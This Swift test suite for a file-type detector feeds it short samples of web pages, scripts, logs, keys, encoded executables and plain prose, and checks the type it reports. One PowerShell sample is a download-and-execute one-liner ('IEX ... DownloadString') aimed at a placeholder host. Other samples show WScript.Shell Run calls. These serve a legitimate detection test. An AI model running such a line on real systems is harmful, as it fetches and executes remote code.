import Pipeline
import PipelineTesting
import Testing

@testable import FileType

@Suite struct TextTypeTests {
    private let detector = FileTypeDetector()

    private func kind(_ bytes: [UInt8]) -> String { detector.kind(of: bytes.rawSpan).name }

    @Test(arguments: [
        ("PHP", "<?php echo 1;"),
        ("PHP", "<html><body><?php echo date('Y'); ?></body></html>"),
        ("PHP", "\n\n<?PHP\n$x = 1;"),
        ("JSP", "<%@ page language=\"java\" import=\"java.util.*\" %><%= request.getParameter(\"a\") %>"),
        ("ASP", "<% Response.Write(\"hello\") : Dim a %>"),
        (
            "ASPX",
            "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.IO\" %><script runat=\"server\">void "
                + "x(){}</script>"
        ),
        ("ColdFusion", "<cfset a = 1>\n<cfoutput>#a#</cfoutput>"),
        ("HTML", "<!DOCTYPE html>\n<html><head><title>a</title></head></html>"),
        ("HTML", "<div><p>a</p><table></table></div>"),
        ("HTA", "<html><head><HTA:APPLICATION id=\"a\"></head></html>"),
        ("XML", "<?xml version=\"1.0\"?><a><b/></a>"),
        ("XML", "<Groups clsid=\"{1}\"><User name=\"a\"/></Groups>"),
        ("SVG", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"></svg>"),
        ("WSF", "<job id=\"a\"><script language=\"JScript\"></script></job>"),
        ("VBE", "#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"),
        ("JSON", "{\"name\": \"a\", \"list\": [1, 2.5e3, true, null, {}]}"),
        ("JSON", "{\"a\": 1}\n{\"a\": 2}\n"),
        ("Text", "{this is a note in braces}"),
        ("YAML", "title: a\nlevel: high\ntags:\n  - x\n  - y\n"),
        ("INI", "[section]\nkey=value\nother = 2\n"),
        ("INF", "[Version]\nSignature=\"$Windows NT$\"\nClass=Net\n"),
        ("CSV", "name,age,city\nanna,33,bonn\notto,12,ulm\n"),
        ("Log", "Jan  2 03:04:05 host sshd[1]: a\nJan  2 03:04:06 host sshd[1]: b\n"),
        (
            "Log",
            "10.0.0.1 - - [10/Oct/2025:13:55:36 +0000] \"GET / HTTP/1.1\" 200 1\n10.0.0.1 - - "
                + "[10/Oct/2025:13:55:37 +0000] \"GET /a HTTP/1.1\" 200 1\n"
        ),
        ("Log", "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time\n"),
        ("Auditd Log", "type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e syscall=2\n"),
        (
            "EMAIL",
            "Received: from a by b; Mon, 1 Jan 2024 00:00:00 +0000\nFrom: a@b.c\nTo: d@e.f\nSubject: x\n\nbody\n"
        ),
        ("EMAIL", "X-Strange: 1\n folded\nFrom : a@b.c\nTo: d@e.f\nMIME-Version: 1.0\n\nbody\n"),
        ("MBOX", "From a@b.c Fri Nov 26 21:40:36 2004\nSubject: x\n\nbody\n"),
        ("ICS", "BEGIN:VCALENDAR\nVERSION:2.0\n"),
        ("Internet Shortcut", "[InternetShortcut]\nURL=https://example.org/\n"),
        ("Registry Export", "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\A]\n"),
        ("Certificate PEM", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"),
        ("SSH Private Key", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n"),
        ("PGP", "-----BEGIN PGP MESSAGE-----\n\nAAAA\n"),
        ("Base64 EXE", "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"),
        ("Text", "TV programmes of this evening are listed below, with their times and channels."),
        ("Shell Script", "#!/bin/sh\ntrue\n"),
        ("Python", "#!/usr/bin/env -S python3.11 -u\nx = 1\n"),
        ("JavaScript", "#!/usr/bin/node\n1\n"),
        ("Script", "#!/usr/bin/tclsh\nputs 1\n"),
        ("Python", "import os\nimport sys\n\nclass A:\n    def b(self):\n        return self.c\n"),
        ("PowerShell", "param([string]$Name)\n$a = Get-ChildItem -Path $Name\nWrite-Host $a\n"),
        ("PowerShell", "IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')"),
        ("BATCH", "@echo off\nset A=1\n"),
        ("BATCH", "cd /d %~dp0\nif errorlevel 1 goto end\n:end\n"),
        ("VBS", "Dim a\nSet a = CreateObject(\"WScript.Shell\")\na.Run \"x\"\n"),
        ("JavaScript", "var a = new ActiveXObject(\"WScript.Shell\");\na.Run(\"x\");\n"),
        ("JavaScript", "function a(b) {\n  const c = document.getElementById(b);\n  console.log(c);\n}\n"),
        ("Perl", "use strict;\nuse warnings;\nmy $a = shift;\nprint \"$a\\n\";\n"),
        ("Ruby", "require 'socket'\nclass A\n  def b\n    puts 1\n  end\nend\n"),
        ("C Source", "#include <stdio.h>\nint main(void) {\n  printf(\"a\");\n}\n"),
        ("SQL", "CREATE TABLE a (\n  b VARCHAR(10) PRIMARY KEY\n);\nINSERT INTO a VALUES ('x');\nSELECT * FROM a;\n"),
        (
            "YARA Rules",
            "rule a {\n  strings:\n    $s1 = \"x\" fullword ascii\n  condition:\n    uint16(0) == 0x5A4D and $s1\n}\n"
        ),
    ])
    func texts(name: String, text: String) { #expect(kind(Array(text.utf8)) == name) }

    /// Prose stays prose, whatever it talks about.
    @Test(arguments: [
        "If you want to end the function early, return to the loop and try again; then import the class from the list.",
        "Dear all,\n\nplease set the option and call me for the next step. Let us print and echo it. Do "
            + "not exit.\n\nSelect one\nfrom the list, drop the others, create a new one where needed, and "
            + "begin.\n",
        "# Manual\n\nRun `Get-ChildItem` to list files; the rest of this long chapter explains in many "
            + "words what the administrator of a large site should think about before any of it is used, which "
            + "parts of the company have to agree, what the lawyers said about it at last year's meeting in the "
            + "harbour, and why nothing of it can be done before the end of the coming quarter of the year.\n",
        "A short note.",
        "Übergröße und Ähnliches: schön, daß es geht.",
    ])
    func proseIsText(text: String) { #expect(kind(Array(text.utf8)) == "Text") }

    @Test func encodingsAreSeenThrough() {
        let script = "param([string]$Name)\r\n$a = Get-ChildItem -Path $Name\r\nWrite-Host $a\r\n"
        #expect(kind(Fixture.utf16(script)) == "PowerShell")
        #expect(kind(Fixture.utf16(script, bigEndian: true)) == "PowerShell")
        #expect(kind(Fixture.utf16(script, mark: false)) == "PowerShell")
        #expect(kind([0xEF, 0xBB, 0xBF] + Array(script.utf8)) == "PowerShell")
        #expect(kind(Fixture.utf16("Version=1\r\nEventType=APPCRASH\r\n")) == "WER")
        let task = "<?xml version=\"1.0\"?><Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"/>"
        #expect(kind(Fixture.utf16(task)) == "Windows Task XML")
        // Latin-1, and Japanese in UTF-8.
        #expect(
            kind(Array("Gr".utf8) + [0xFC, 0xDF] + Array("e aus K".utf8) + [0xF6] + Array("ln am Rhein".utf8)) == "Text"
        )
        #expect(kind(Array("こんにちは世界、これは普通の文章です。".utf8)) == "Text")
    }

    @Test func encodingIsTold() {
        func encoding(_ bytes: [UInt8]) -> TextEncoding? { TextEncoding(bytes.rawSpan) }
        #expect(encoding(Array("abc".utf8)) == .bytes(mark: 0))
        #expect(encoding([0xEF, 0xBB, 0xBF, 0x61]) == .bytes(mark: 3))
        #expect(encoding(Fixture.utf16("abc")) == .utf16LittleEndian(mark: 2))
        #expect(encoding(Fixture.utf16("abcdef", mark: false, bigEndian: true)) == .utf16BigEndian(mark: 0))
        #expect(encoding([]) == nil)
        #expect(encoding([0x61, 0, 0x62]) == nil)
        #expect(encoding([1, 2, 3, 4, 5, 6]) == nil)
    }

    @Test func deepJSONCostsNoStack() {
        #expect(kind([UInt8](repeating: 0x5B, count: 100_000)) == "Text")
        #expect(kind(Array("{\"a\":".utf8) + [UInt8](repeating: 0x5B, count: 3000) + Array("1".utf8)) == "JSON")
    }
}
